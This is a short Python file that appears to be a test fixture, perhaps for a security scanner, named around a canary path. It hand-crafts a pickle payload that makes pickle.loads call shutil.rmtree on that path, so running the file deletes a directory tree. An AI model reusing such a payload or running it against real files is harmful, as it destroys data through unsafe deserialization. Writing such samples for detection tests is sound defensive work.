"""pickle_obj."""
import os
V = CANARY + '/victim'
import pickle
pickle.loads(b'(cshutil\nrmtree\nV' + CANARY.encode() + b'\no.')
